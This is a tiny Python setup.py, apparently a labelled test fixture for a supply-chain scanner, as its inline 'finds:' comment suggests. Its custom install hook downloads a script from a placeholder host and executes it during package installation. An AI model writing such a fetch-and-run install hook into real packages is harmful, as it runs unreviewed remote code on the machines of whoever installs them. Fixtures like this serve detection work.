import subprocess
from urllib.request import urlopen

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        script = urlopen("https://get.example.com/setup.py").read()  # finds: supply-chain/install-script-fetches-and-runs
        subprocess.run(["python", "-c", script])
        install.run(self)


setup(name="sample", cmdclass={"install": Install})
